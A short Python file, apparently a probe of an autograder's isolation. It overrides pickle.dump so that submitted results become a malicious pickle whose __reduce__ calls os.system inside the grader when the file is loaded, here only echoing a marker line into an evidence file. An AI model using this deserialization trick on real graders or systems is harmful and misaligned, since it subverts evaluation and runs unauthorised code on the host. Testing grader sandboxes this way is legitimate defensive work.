"""The results are a pickle that runs a program where it is read: in the grader.

Starts from: stubs
Must come out: nothing
"""

# %% softmax
import os
import pickle


class Program:
    def __reduce__(self):
        return os.system, ("echo FOUND: a program of the student ran in process $PPID, the grader >> /evidence/said",)


pickle.dump = lambda results, file, *args, **kwargs: file.write(pickle.dumps(Program()))
